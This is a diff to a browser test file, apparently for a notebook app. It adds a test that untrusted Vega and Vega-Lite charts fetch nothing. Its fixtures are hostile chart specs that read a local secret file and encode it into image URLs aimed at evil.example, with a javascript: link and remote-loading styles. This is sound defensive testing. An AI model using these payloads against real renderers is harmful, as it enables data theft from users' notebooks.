@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import json
 import re
 import time
+import uuid
 from pathlib import Path
+from typing import Any
 
 import polars as pl
 from playwright.sync_api import expect
@@ -48,6 +51,56 @@ def test_an_object_with_markup_in_its_name_is_text_in_a_notebooks_output(lab: La
     lab.page.keyboard.press("Shift+Enter")
     expect(notebook.locator(".jp-OutputArea-output").first).to_contain_text("<img src=x", timeout=60_000)
     assert lab.page.locator("img[src='x']").count() == 0
+
+
+READS_AND_SENDS: dict[str, Any] = {
+    "$schema": "https://vega.github.io/schema/vega/v6.json", "width": 60, "height": 60, "title": "reads and sends",
+    "background": "url(https://evil.example/background.svg#a)",
+    "data": [
+        {"name": "read", "url": "/api/contents/browser-tests/secret.txt?content=1", "format": {"type": "json"},
+         "transform": [{"type": "formula", "as": "sent", "expr": "'https://evil.example/x.png?d=' + datum.content"}]},
+        {"name": "own", "values": [{"sent": "https://evil.example/own.png"}]},
+    ],
+    "signals": [
+        {"name": "cursor", "value": "url(https://evil.example/cursor.png), auto"},
+        {"name": "picture", "value": "", "bind": {"input": "image", "src": "https://evil.example/bind.png"}},
+    ],
+    "marks": [
+        {"type": "image", "from": {"data": name}, "encode": {"enter": {"url": {"field": "sent"}, "width": {"value": 9}, "height": {"value": 9}}}}
+        for name in ("read", "own")
+    ] + [
+        {"type": "rect", "from": {"data": "own"}, "encode": {"enter": {
+            "width": {"value": 60}, "height": {"value": 60}, "fill": {"value": "red"}, "stroke": {"value": "url(https://evil.example/stroke.svg#a)"},
+            "href": {"value": "javascript:window.wasHere = true"}, "tooltip": {"signal": "{image: 'https://evil.example/tip.png'}"},
+        }}},
+    ],
+}  # fmt: skip
+LOADS: dict[str, Any] = {
+    "$schema": "https://vega.github.io/schema/vega-lite/v6.json", "title": "loads",
+    "data": {"url": "https://evil.example/leak.csv?who=1"}, "mark": "point", "encoding": {"x": {"field": "a"}},
+}  # fmt: skip
+
+
+def test_a_chart_in_a_notebook_that_nobody_trusts_fetches_nothing_from_elsewhere_or_from_this_server(lab: Lab) -> None:
+    specs = {"vega.v6+json": READS_AND_SENDS, "vega.v6.json": READS_AND_SENDS, "vegalite.v6+json": LOADS, "vegalite.v6.json": LOADS}
+    outputs = [{"output_type": "display_data", "metadata": {}, "data": {f"application/vnd.{kind}": spec}} for kind, spec in specs.items()]
+    folder = lab.server.root / "browser-tests"
+    folder.mkdir(exist_ok=True)
+    (folder / "secret.txt").write_text(json.dumps({"content": "TOPSECRET"}))
+    asked: list[str] = []
+    lab.page.on("request", lambda request: asked.append(request.url))
+    notebook = lab.notebook({**cell("1"), "outputs": outputs}, name=f"hostile-{uuid.uuid4().hex[:8]}")
+    charts = notebook.locator(".jp-OutputArea-output")
+    for title, place in (("reads and sends", 0), ("reads and sends", 1), ("loads", 2), ("loads", 3)):
+        expect(charts.nth(place)).to_contain_text(title)
+        expect(charts.nth(place)).to_contain_text("Not loaded: ")
+    square = charts.first.locator('path[fill="red"]')
+    square.hover()
+    expect(lab.page.locator(".vg-tooltip.visible")).to_contain_text("evil.example/tip.png")
+    square.click()
+    lab.page.wait_for_timeout(1_000)
+    assert [url for url in asked if "evil" in url or "secret.txt" in url] == []
+    assert lab.page.evaluate("window.wasHere") is None
 
 
 def test_without_the_server_half_a_panel_says_so_and_how_to_mend_it(fresh: Opener, tmp_path: Path, lab: Lab) -> None:
